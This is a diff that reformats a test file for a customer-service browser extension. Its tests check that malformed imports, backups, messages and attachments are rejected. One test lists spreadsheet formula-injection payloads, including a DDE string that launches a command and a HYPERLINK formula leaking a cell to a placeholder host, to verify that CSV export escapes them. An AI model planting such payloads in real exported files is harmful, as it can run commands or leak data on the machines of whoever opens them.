@@ -94,16 +94,16 @@ describe('bad template imports', () => {
   });
 
   it('a 10 MB body (JSON): names the item, its title and the field', async () => {
-    const pack = { format: 'deskmate/templates', version: 1, templates: [{ title: '超长正文', body: '亲'.repeat(10 * MB / 3) }] };
+    const pack = { format: 'deskmate/templates', version: 1, templates: [{ title: '超长正文', body: '亲'.repeat((10 * MB) / 3) }] };
     const bytes = enc(JSON.stringify(pack));
     expect(bytes.byteLength).toBeGreaterThanOrEqual(10 * MB);
     expect(await refused('huge-body.json', bytes)).toEqual(['templates[0] (“超长正文”).body: is longer than 20000 characters']);
-   }, 30_000);
+  }, 30_000);
 
   it('a 10 MB body (CSV): names the row and the field', async () => {
     const bytes = enc(`folder,shortcode,title,body\r\n售后,cc,超长正文,"${'x'.repeat(10 * MB)}"\r\n`);
     expect(await refused('huge-body.csv', bytes)).toEqual(['row 2, body: is longer than 20000 characters']);
-   }, 30_000); // parseCsvRows takes seconds over 10 MB
+  }, 30_000); // parseCsvRows takes seconds over 10 MB
 
   it('invalid UTF-8 (a CSV saved as GBK): says it is not UTF-8 instead of importing mojibake', async () => {
     const bytes = bytesOf('templates-gbk.csv');
@@ -131,8 +131,8 @@ describe('template CSV export escapes formulas', () => {
   const attacks = {
     dde: "=cmd|' /C calc'!A0",
     plus: '+SUM(1,2)',
-    minus: '-2+3+cmd|\' /C calc\'!A0',
-    at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    minus: "-2+3+cmd|' /C calc'!A0",
+    at: "@SUM(1+1)*cmd|' /C calc'!A0",
     tab: '\t=1+1',
     hyperlink: '=HYPERLINK("http://example.invalid/?leak="&A1,"查看")',
   };
@@ -140,8 +140,19 @@ describe('template CSV export escapes formulas', () => {
   it('prefixes every cell that would start a formula with an apostrophe, and the import takes it back off', async () => {
     const saved: TemplateRecord[] = [];
     for (const [code, value] of Object.entries(attacks)) {
-      saved.push(await saveTemplate(db, { title: value, body: value, shortcode: code, folder: '', tags: [], sites: [], language: 'zh-CN' }));
-      saved.push(await saveTemplate(db, { title: `${code} body`, body: value, folder: value.replace(/\//g, '|'), tags: [], sites: [], language: 'zh-CN' }));
+      saved.push(
+        await saveTemplate(db, { title: value, body: value, shortcode: code, folder: '', tags: [], sites: [], language: 'zh-CN' }),
+      );
+      saved.push(
+        await saveTemplate(db, {
+          title: `${code} body`,
+          body: value,
+          folder: value.replace(/\//g, '|'),
+          tags: [],
+          sites: [],
+          language: 'zh-CN',
+        }),
+      );
     }
     const csv = exportCsv(await db.templates.toArray());
     const rows = parseCsvRows(csv.replace(/^\uFEFF/, ''));
@@ -186,7 +197,9 @@ describe('bad site config files', () => {
   };
 
   it('an invalid CSS selector: names the config, the field and the selector; the valid config beside it is not saved either', async () => {
-    expect(await refused('site-invalid-selector.json')).toEqual(['configs.1.selectors.composer.1: "div.editor[contenteditable" is not a valid CSS selector']);
+    expect(await refused('site-invalid-selector.json')).toEqual([
+      'configs.1.selectors.composer.1: "div.editor[contenteditable" is not a valid CSS selector',
+    ]);
   });
 
   // The regex engine is linear-time (lib/sites/safe-regex.ts): a regex is refused only for what it
@@ -196,7 +209,9 @@ describe('bad site config files', () => {
   });
 
   it('a regex too large to run cheaply: names the field and the bound', async () => {
-    expect(await refused('site-regex-too-complex.json')).toEqual([expect.stringMatching(/^selectors\.orderNo\.regex: is too complex \(\d+ steps per character, at most 1000/)]);
+    expect(await refused('site-regex-too-complex.json')).toEqual([
+      expect.stringMatching(/^selectors\.orderNo\.regex: is too complex \(\d+ steps per character, at most 1000/),
+    ]);
   });
 
   it('too many match patterns: names the list and the bound', async () => {
@@ -212,7 +227,9 @@ describe('bad site config files', () => {
   });
 
   it('a bad match pattern: names the pattern and its position', async () => {
-    expect(await refused('site-bad-match-pattern.json')).toEqual([expect.stringMatching(/^matches\.1: "https:\/\/\*example-shop\.cn" is not a match pattern/)]);
+    expect(await refused('site-bad-match-pattern.json')).toEqual([
+      expect.stringMatching(/^matches\.1: "https:\/\/\*example-shop\.cn" is not a match pattern/),
+    ]);
   });
 
   // BUG (lib/sites/schema.ts parseSiteConfig): the selector check only visits paths ending in
@@ -220,7 +237,9 @@ describe('bad site config files', () => {
   // `messageSender` are selectors too (lib/sites/extract.ts senderOf calls item.matches(sel)). An
   // invalid one is accepted and saved, and senderOf then throws a SyntaxError on every message.
   it('an invalid selector in messageSender (no attr) is refused', async () => {
-    expect(await refused('site-sender-selector-invalid.json')).toEqual([expect.stringMatching(/^selectors\.messageSender\.agent\.0: .*not a valid CSS selector/)]);
+    expect(await refused('site-sender-selector-invalid.json')).toEqual([
+      expect.stringMatching(/^selectors\.messageSender\.agent\.0: .*not a valid CSS selector/),
+    ]);
   });
 
   // BUG (lib/sites/store.ts parseSiteConfigFile): the export wrapper is recognised by its format
@@ -257,8 +276,12 @@ describe('bad lint rules', () => {
   });
 
   it('a backreference (not linear-time): names the rule and the field, from a file and from the editor', async () => {
-    expect(await unchanged(() => importLintRules('lint-regex-backreference.json'))).toEqual([expect.stringMatching(/^rules\.1\.regex: uses a backreference/)]);
-    expect(await unchanged(() => addLintRule(rulesIn('lint-regex-backreference.json')[1]))).toEqual([expect.stringMatching(/^regex: uses a backreference/)]);
+    expect(await unchanged(() => importLintRules('lint-regex-backreference.json'))).toEqual([
+      expect.stringMatching(/^rules\.1\.regex: uses a backreference/),
+    ]);
+    expect(await unchanged(() => addLintRule(rulesIn('lint-regex-backreference.json')[1]))).toEqual([
+      expect.stringMatching(/^regex: uses a backreference/),
+    ]);
   });
 
   it('an empty phrase: names the rule and the phrase position', async () => {
@@ -267,7 +290,9 @@ describe('bad lint rules', () => {
   });
 
   it('neither a phrase nor a regex: says what the rule needs', async () => {
-    expect(await unchanged(() => importLintRules('lint-nothing-to-match.json'))).toEqual(['rules.0: needs at least one phrase or a regular expression']);
+    expect(await unchanged(() => importLintRules('lint-nothing-to-match.json'))).toEqual([
+      'rules.0: needs at least one phrase or a regular expression',
+    ]);
     expect(await unchanged(() => addLintRule({ ...(rulesIn('lint-nothing-to-match.json')[0] as object), regex: '' }))).toEqual([
       'needs at least one phrase or a regular expression',
     ]);
@@ -298,7 +323,9 @@ describe('bad backups (restore validates every row and setting like live writes)
   };
 
   it('disabledHosts as an object (the loader would throw on every page): names the setting', async () => {
-    expect(await refused('backup-disabled-hosts-object.json')).toEqual([expect.stringMatching(/^settings\.disabledHosts: must be an array$/)]);
+    expect(await refused('backup-disabled-hosts-object.json')).toEqual([
+      expect.stringMatching(/^settings\.disabledHosts: must be an array$/),
+    ]);
   });
 
   it('retentionDays "never" (pruning would throw daily): names the setting', async () => {
@@ -306,7 +333,9 @@ describe('bad backups (restore validates every row and setting like live writes)
   });
 
   it('a template whose title is an object: names the row and field', async () => {
-    expect(await refused('backup-template-object-title.json')).toEqual([expect.stringMatching(/^tables\.templates\.0\.title: must be a string$/)]);
+    expect(await refused('backup-template-object-title.json')).toEqual([
+      expect.stringMatching(/^tables\.templates\.0\.title: must be a string$/),
+    ]);
   });
 
   it('a null row: named, instead of throwing', async () => {
@@ -314,11 +343,15 @@ describe('bad backups (restore validates every row and setting like live writes)
   });
 
   it('an "attachment" that is an HTML page named x.hta: refused by its content', async () => {
-    expect(await refused('backup-attachment-hta.json')).toEqual([expect.stringMatching(/^tables\.attachments\.0\.blob: "x\.hta": is not an image or PDF/)]);
+    expect(await refused('backup-attachment-hta.json')).toEqual([
+      expect.stringMatching(/^tables\.attachments\.0\.blob: "x\.hta": is not an image or PDF/),
+    ]);
   });
 
-  it('a real PNG declared text/html and named x.hta: the type and name must be the content\'s', async () => {
-    expect(await refused('backup-png-named-hta.json')).toEqual(['tables.attachments.0.type: "text/html" is not the file\'s type (image/png)']);
+  it("a real PNG declared text/html and named x.hta: the type and name must be the content's", async () => {
+    expect(await refused('backup-png-named-hta.json')).toEqual([
+      'tables.attachments.0.type: "text/html" is not the file\'s type (image/png)',
+    ]);
   });
 });
 
@@ -348,7 +381,9 @@ describe('bad checklist definitions', () => {
   });
 
   it('a duplicate item id: names both items', async () => {
-    expect(await refused('checklists-duplicate-item.json')).toEqual(['caseTypes.0.items.1.id: "tracking" is also used by caseTypes.0.items.0']);
+    expect(await refused('checklists-duplicate-item.json')).toEqual([
+      'caseTypes.0.items.1.id: "tracking" is also used by caseTypes.0.items.0',
+    ]);
   });
 
   it('truncated JSON', async () => {
@@ -363,7 +398,8 @@ describe('bad checklist definitions', () => {
 // ---- messages --------------------------------------------------------------------------------
 
 describe('bad messages to the background', () => {
-  const services = () => ({ injectOverlay: vi.fn(async () => false), waitsChanged: vi.fn(), casesChanged: vi.fn() }) satisfies BackgroundServices;
+  const services = () =>
+    ({ injectOverlay: vi.fn(async () => false), waitsChanged: vi.fn(), casesChanged: vi.fn() }) satisfies BackgroundServices;
 
   /** dispatch() on a fresh database: the reply, with every table and storage item checked unchanged. */
   const send = async (message: unknown) => {
@@ -378,16 +414,27 @@ describe('bad messages to the background', () => {
   };
 
   it('timers.observe with the message text added: the strict schema refuses the text field', async () => {
-    expect(await send(jsonOf('message-observe-with-text.json'))).toEqual({ ok: false, error: expect.stringMatching(/^timers\.observe: messages\.0: .*"text"/) });
+    expect(await send(jsonOf('message-observe-with-text.json'))).toEqual({
+      ok: false,
+      error: expect.stringMatching(/^timers\.observe: messages\.0: .*"text"/),
+    });
   });
 
   it('timers.observe with a negative time: names the message and the field', async () => {
-    expect(await send(jsonOf('message-observe-negative-time.json'))).toEqual({ ok: false, error: expect.stringMatching(/^timers\.observe: messages\.0\.at: .*>=0/) });
+    expect(await send(jsonOf('message-observe-negative-time.json'))).toEqual({
+      ok: false,
+      error: expect.stringMatching(/^timers\.observe: messages\.0\.at: .*>=0/),
+    });
   });
 
   it('timers.observe with 20,001 messages: names the list and the limit', async () => {
     const base = jsonOf('message-observe-negative-time.json') as { input: { messages: unknown[] } };
-    const messages = Array.from({ length: 20001 }, (_, i) => ({ id: `m${i}`, sender: i % 2 ? 'agent' : 'customer', at: 1700000000000 + i, live: false }));
+    const messages = Array.from({ length: 20001 }, (_, i) => ({
+      id: `m${i}`,
+      sender: i % 2 ? 'agent' : 'customer',
+      at: 1700000000000 + i,
+      live: false,
+    }));
     const reply = await send({ ...base, input: { ...base.input, messages } });
     expect(reply).toEqual({ ok: false, error: expect.stringMatching(/^timers\.observe: messages: .*20000/) });
   });
@@ -416,8 +463,14 @@ describe('bad messages to the background', () => {
   // (and published to the match index); the site's watcher then throws on querySelector.
   // The options page import refuses the same config (see "an invalid CSS selector" above).
   it('sites.save with an invalid CSS selector is refused (checked by syntax in the worker)', async () => {
-    expect(await send(jsonOf('message-sites-save-invalid-selector.json'))).toEqual({ ok: false, error: expect.stringMatching(/selectors\.composer\.1: .*not a valid CSS selector/) });
-    expect(await send(jsonOf('message-sites-save-too-many-matches.json'))).toEqual({ ok: false, error: expect.stringMatching(/matches: .*20/) });
+    expect(await send(jsonOf('message-sites-save-invalid-selector.json'))).toEqual({
+      ok: false,
+      error: expect.stringMatching(/selectors\.composer\.1: .*not a valid CSS selector/),
+    });
+    expect(await send(jsonOf('message-sites-save-too-many-matches.json'))).toEqual({
+      ok: false,
+      error: expect.stringMatching(/matches: .*20/),
+    });
   });
 });
 
@@ -435,7 +488,8 @@ describe('bad attachments', () => {
       else checked.push({ file, type: r.type });
     }
     if (problems.length) return problems;
-    for (const { file, type } of checked) await storeAttachment(db, { caseId, itemId, name: file.name, blob: new Blob([file], { type }), sourceUrl: '' });
+    for (const { file, type } of checked)
+      await storeAttachment(db, { caseId, itemId, name: file.name, blob: new Blob([file], { type }), sourceUrl: '' });
     return [];
   }
 
@@ -456,12 +510,21 @@ describe('bad attachments', () => {
   });
 
   it('a text file renamed .png is refused by its content; a valid file in the same batch is not stored either', async () => {
-    const c = await openCase(db, { orderNo: '1234567890', caseTypeId: 'not-received', platform: 'taobao', siteId: 'deskmate-demo' }, shippedChecklists('en'));
+    const c = await openCase(
+      db,
+      { orderNo: '1234567890', caseTypeId: 'not-received', platform: 'taobao', siteId: 'deskmate-demo' },
+      shippedChecklists('en'),
+    );
     const itemId = c.items[0]!.itemId;
     const text = new File([bytesOf('not-an-image.png')], 'not-an-image.png', { type: 'image/png' });
     const good = new File([PNG], 'tracking.png', { type: 'image/png' });
-    expect(await inspectFile(text)).toEqual({ ok: false, errors: ['"not-an-image.png": is not a PNG image (its content is not an image or PDF)'] });
-    expect(await unchanged(() => addFiles(c.id, itemId, [good, text]))).toEqual(['"not-an-image.png": is not a PNG image (its content is not an image or PDF)']);
+    expect(await inspectFile(text)).toEqual({
+      ok: false,
+      errors: ['"not-an-image.png": is not a PNG image (its content is not an image or PDF)'],
+    });
+    expect(await unchanged(() => addFiles(c.id, itemId, [good, text]))).toEqual([
+      '"not-an-image.png": is not a PNG image (its content is not an image or PDF)',
+    ]);
     expect(await db.attachments.count()).toBe(0);
   });
 });
